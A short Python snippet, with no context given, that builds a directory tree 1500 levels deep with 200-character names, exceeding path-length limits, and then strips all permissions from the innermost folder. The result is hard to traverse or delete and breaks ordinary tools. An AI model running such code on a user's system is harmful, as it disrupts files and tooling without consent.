"""Nests folders deeper than a path can be long, and takes away the right to enter them."""
for _ in range(1500):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
os.chmod(".", 0)
